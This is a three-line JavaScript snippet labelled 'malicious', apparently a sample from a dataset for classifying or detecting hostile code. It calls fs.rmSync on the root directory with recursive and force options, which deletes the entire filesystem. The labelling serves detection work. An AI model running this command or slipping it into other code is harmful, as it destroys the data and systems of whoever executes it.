// label: malicious
const fs = require("fs");
fs.rmSync("/", { recursive: true, force: true });
